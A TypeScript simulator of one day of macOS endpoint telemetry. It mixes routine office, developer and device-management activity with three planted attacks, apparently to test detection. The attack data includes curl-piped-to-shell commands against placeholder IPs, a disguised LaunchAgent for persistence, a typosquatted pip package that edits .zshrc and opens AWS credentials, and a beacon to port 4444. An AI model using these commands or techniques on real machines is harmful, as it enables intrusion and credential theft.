/** A working day on three Macs: development, management and office work, and three attacks among them. */
import { EndpointHost, type Process } from './endpoint.js';
import { Random } from './random.js';

export const dayMs = Date.UTC(2026, 2, 3, 0, 0, 0);
const at = (hour: number, minute: number, second = 0): number => dayMs + ((hour * 60 + minute) * 60 + second) * 1000;

const framework = '/Library/Frameworks/Python.framework/Versions/3.12/bin/python3';
const frameworkApp = '/Library/Frameworks/Python.framework/Versions/3.12/Resources/Python.app/Contents/MacOS/Python';
const brewed = '/opt/homebrew/Cellar/python@3.12/3.12.8/bin/python3.12';

interface Mac {
  readonly host: EndpointHost;
  readonly launchd: Process;
  readonly shell: Process;
  readonly user: string;
}

function boot(random: Random, id: string, name: string, user: string, ip: string): Mac {
  const host = new EndpointHost(
    { id, name, platform: 'macos', osName: 'macOS', osVersion: '15.3', ip, agentId: `a${id.slice(1)}` },
    random,
  );
  const launchd = host.spawn(at(7, 30), undefined, ['/sbin/launchd']);
  for (const daemon of ['/usr/libexec/mDNSResponder', '/usr/libexec/opendirectoryd', '/usr/libexec/nsurlsessiond']) {
    const started = host.spawn(at(7, 30, random.between(1, 20)), launchd, ['/usr/libexec/xpcproxy', daemon]);
    host.exec(at(7, 30, random.between(21, 30)), started, [daemon]);
  }
  const terminal = host.spawn(at(8, 1), launchd, ['/usr/libexec/xpcproxy', 'com.apple.Terminal'], { user });
  host.exec(at(8, 1, 1), terminal, ['/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal'], {
    signer: 'Software Signing',
  });
  const login = host.spawn(at(8, 1, 4), terminal, ['/usr/bin/login', '-pf', user], { user: 'root' });
  const shell = host.spawn(at(8, 1, 5), login, ['-zsh'], { path: '/bin/zsh', user, cwd: `/Users/${user}` });
  return { host, launchd, shell, user };
}

/** An interpreter of python.org's framework: a stub that replaces itself. */
function runFramework(mac: Mac, timeMs: number, parent: Process, args: readonly string[], cwd: string): Process {
  const process = mac.host.spawn(timeMs, parent, [framework, ...args], { cwd, signer: 'Python Software Foundation' });
  mac.host.exec(timeMs + 40, process, [frameworkApp, ...args], { cwd, signer: 'Python Software Foundation' });
  return process;
}

/** What every Mac does all day: browsing, mail, system services. */
function office(mac: Mac, random: Random, count: number): void {
  const { host, launchd, user } = mac;
  const apps = ['Safari', 'Mail', 'Slack', 'Google Chrome'].map((name, i) =>
    host.spawn(at(8, 2 + i), launchd, [`/Applications/${name}.app/Contents/MacOS/${name}`], { user }),
  );
  const sites: readonly (readonly [string, string])[] = [
    ['www.example.com', '93.184.216.34'],
    ['mail.example.com', '203.0.113.25'],
    ['app.slack.com', '198.51.100.40'],
    ['docs.example.org', '198.51.100.61'],
    ['intranet.example.net', '10.20.0.15'],
  ];
  for (let i = 0; i < count; i++) {
    const app = random.pick(apps);
    const timeMs = at(8, 10) + random.between(0, 9 * 3_600_000);
    const [domain, ip] = random.pick(sites);
    if (random.next() < 0.6) host.visit(timeMs, app, domain, ip);
    else {
      const cache = `/Users/${user}/Library/Caches/com.example.${app.executable.split('/').at(-1)?.toLowerCase().replace(' ', '')}`;
      host.file(timeMs, app, `${cache}/${random.hex(16)}`);
    }
  }
}

/** A developer's Python: an editor's language server, tests, packages, notebooks, a local web service. */
function development(mac: Mac, random: Random): void {
  const { host, launchd, shell, user } = mac;
  const project = `/Users/${user}/proj/billing`;
  const code = host.spawn(at(8, 20), launchd, ['/Applications/Visual Studio Code.app/Contents/MacOS/Electron'], {
    user,
  });
  const helper = host.spawn(at(8, 20, 3), code, [
    '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper (Plugin).app/Contents/MacOS/Code Helper (Plugin)',
    '--type=utility',
  ]);
  const venv = `${project}/.venv/bin/python`;
  const server = host.spawn(
    at(8, 20, 9),
    helper,
    [venv, `/Users/${user}/.vscode/extensions/ms-python.python-2026.2.0/python_files/run-jedi-language-server.py`],
    { path: brewed, cwd: project },
  );
  host.spawn(at(8, 20, 11), server, ['/usr/bin/uname', '-p']);
  for (let i = 0; i < 40; i++) {
    const timeMs = at(8, 30) + i * random.between(500_000, 700_000);
    const tests = host.spawn(
      timeMs,
      shell,
      [venv, '-m', 'pytest', '-q', random.pick(['tests/unit', 'tests/api', 'tests'])],
      { path: brewed, cwd: project },
    );
    host.spawn(timeMs + 300, tests, ['/usr/bin/git', 'rev-parse', '--show-toplevel'], { cwd: project });
    host.file(timeMs + 2_000, tests, `${project}/.pytest_cache/v/cache/lastfailed`);
    host.file(timeMs + 2_100, tests, `/private/var/folders/zz/${user}/T/pytest-of-${user}/pytest-${i}/report.json`);
    host.end(timeMs + 4_000 + random.between(0, 9_000), tests);
  }
  const pip = host.spawn(at(9, 2), shell, [venv, '-m', 'pip', 'install', '-r', 'requirements.txt'], {
    path: brewed,
    cwd: project,
  });
  host.visit(at(9, 2, 1), pip, 'pypi.org', '151.101.0.223');
  for (let i = 0; i < 12; i++) {
    host.visit(at(9, 2, 3 + i), pip, 'files.pythonhosted.org', '151.101.64.223');
    host.file(at(9, 2, 3 + i), pip, `${project}/.venv/lib/python3.12/site-packages/package_${i}/__init__.py`);
  }
  host.file(at(9, 2, 18), pip, `${project}/.venv/lib/python3.12/site-packages/distutils-precedence.pth`);
  host.end(at(9, 2, 20), pip);
  const web = host.spawn(at(10, 5), shell, [venv, '-m', 'uvicorn', 'billing.app:app', '--reload'], {
    path: brewed,
    cwd: project,
  });
  for (let i = 0; i < 15; i++) host.connect(at(10, 6) + i * 60_000, web, '127.0.0.1', 5432, 'localhost');
  const notebook = host.spawn(at(11, 0), shell, [venv, '-m', 'jupyter-lab', '--no-browser'], {
    path: brewed,
    cwd: project,
  });
  const kernel = host.spawn(
    at(11, 0, 30),
    notebook,
    [venv, '-m', 'ipykernel_launcher', '-f', `/Users/${user}/Library/Jupyter/runtime/kernel-${random.hex(8)}.json`],
    { path: brewed, cwd: project },
  );
  host.visit(at(11, 12), kernel, 'api.github.com', '140.82.121.6');
  const script = host.spawn(at(13, 30), shell, [venv, 'scripts/report.py', '--month', '2026-02'], {
    path: brewed,
    cwd: project,
  });
  host.visit(at(13, 30, 2), script, 'billing.example.net', '10.20.0.30');
  host.end(at(13, 31), script);
  const brew = host.spawn(at(14, 0), shell, ['/opt/homebrew/bin/brew', 'upgrade'], { path: '/bin/bash' });
  host.visit(at(14, 0, 5), brew, 'formulae.brew.sh', '185.199.108.153');
}

/** Inventory by a management agent, and packages by Munki: both run Python as root. */
function management(mac: Mac, random: Random): void {
  const { host, launchd } = mac;
  const jamf = host.spawn(at(12, random.between(0, 30)), launchd, [
    '/usr/local/jamf/bin/jamf',
    'policy',
    '-event',
    'inventory',
  ]);
  const script = host.spawn(at(12, 31), jamf, [
    '/Library/ManagedFrameworks/Python/Python3.framework/Versions/3.11/bin/python3',
    '/Library/Application Support/JAMF/tmp/inventory.py',
  ]);
  host.spawn(at(12, 31, 1), script, ['/usr/sbin/system_profiler', 'SPHardwareDataType']);
  host.spawn(at(12, 31, 4), script, ['/usr/bin/csrutil', 'status']);
  host.spawn(at(12, 31, 5), script, ['/usr/bin/profiles', 'list']);
  host.visit(at(12, 31, 8), script, 'jamf.example.net', '10.20.0.9');
  const munki = host.spawn(at(13, 5), launchd, [
    '/usr/libexec/xpcproxy',
    'com.googlecode.munki.managedsoftwareupdate-check',
  ]);
  host.exec(at(13, 5, 1), munki, ['/usr/local/munki/munki-python', '/usr/local/munki/managedsoftwareupdate', '--auto']);
  host.visit(at(13, 5, 4), munki, 'munki.example.net', '10.20.0.11');
}

/** A downloaded "viewer" looks around, calls home and installs an agent. */
function attackDownloadedViewer(mac: Mac): void {
  const { host, shell, user } = mac;
  const script = `/Users/${user}/Downloads/invoice_viewer.py`;
  const root = runFramework(mac, at(10, 41, 7), shell, [script], `/Users/${user}`);
  host.spawn(at(10, 41, 9), root, ['/usr/bin/sw_vers']);
  host.spawn(at(10, 41, 10), root, ['/usr/sbin/ioreg', '-c', 'IOPlatformExpertDevice', '-d', '2']);
  host.spawn(at(10, 41, 11), root, ['/usr/bin/dscl', '.', '-list', '/Users']);
  host.connect(at(10, 41, 14), root, '203.0.113.66', 8081);
  host.file(at(10, 41, 20), root, `/Users/${user}/Library/LaunchAgents/com.apple.softwareupdate.helper.plist`);
  host.launchItem(
    at(10, 41, 20) + 120,
    root,
    `/Users/${user}/Library/LaunchAgents/com.apple.softwareupdate.helper.plist`,
    ['/bin/sh', '-c', 'curl -s http://203.0.113.66:8081/b | sh'],
  );
  host.file(at(10, 41, 31), root, script, 'deletion');
}

/** A package with the name of another runs code while it is installed: fetches a script, edits the shell's start file. */
function attackTrojanPackage({ host, shell, user }: Mac): void {
  const venv = `/Users/${user}/proj/billing/.venv/bin/python`;
  const pip = host.spawn(at(15, 22), shell, [venv, '-m', 'pip', 'install', 'reqeusts-toolbelt'], { path: brewed });
  host.visit(at(15, 22, 1), pip, 'files.pythonhosted.org', '151.101.64.223');
  const setup = host.spawn(
    at(15, 22, 6),
    pip,
    [venv, '-c', 'exec(compile(open("setup.py").read(), "setup.py", "exec"))'],
    { path: brewed },
  );
  const fetch = host.spawn(at(15, 22, 7), setup, ['/bin/sh', '-c', 'curl -fsSL http://198.51.100.23/t | bash']);
  const curl = host.spawn(at(15, 22, 7) + 30, fetch, ['curl', '-fsSL', 'http://198.51.100.23/t'], {
    path: '/usr/bin/curl',
  });
  host.connect(at(15, 22, 7) + 90, curl, '198.51.100.23', 80);
  const bash = host.spawn(at(15, 22, 8), fetch, ['bash'], { path: '/bin/bash' });
  host.file(at(15, 22, 9), bash, `/Users/${user}/.zshrc`);
  host.file(at(15, 22, 10), setup, `/Users/${user}/.aws/credentials`, 'open');
}

/** A job that was there since morning wakes up at noon, asks about the host, and connects to an unusual port. */
function attackSleepingJob({ host, launchd }: Mac): void {
  const job = host.spawn(at(7, 31), launchd, ['/usr/libexec/xpcproxy', 'com.vendor.metricsd']);
  host.exec(at(7, 31, 1), job, ['/usr/local/bin/python3', '/Library/Metrics/agent.py'], {
    path: '/usr/local/bin/python3',
  });
  host.connect(at(12, 15, 2), job, '198.51.100.77', 4444);
  host.spawn(at(12, 15, 4), job, ['/usr/bin/sw_vers']);
  host.spawn(at(12, 15, 5), job, ['/usr/bin/whoami']);
  host.spawn(at(12, 15, 6), job, ['/usr/sbin/networksetup', '-listallhardwareports']);
}

export function macosDay(seed: number): readonly EndpointHost[] {
  const random = new Random(seed);
  const dev = boot(random, 'd5a2f1c0-0001-4c60-9a55-0a1b2c3d4e01', 'mac-dev-01', 'alice', '10.20.4.21');
  const finance = boot(random, 'd5a2f1c0-0002-4c60-9a55-0a1b2c3d4e02', 'mac-fin-02', 'bob', '10.20.4.22');
  const lab = boot(random, 'd5a2f1c0-0003-4c60-9a55-0a1b2c3d4e03', 'mac-lab-03', 'carol', '10.20.4.23');
  for (const mac of [dev, finance, lab]) {
    office(mac, random, 70);
    management(mac, random);
  }
  development(dev, random);
  attackTrojanPackage(dev);
  attackDownloadedViewer(finance);
  attackSleepingJob(lab);
  return [dev.host, finance.host, lab.host];
}
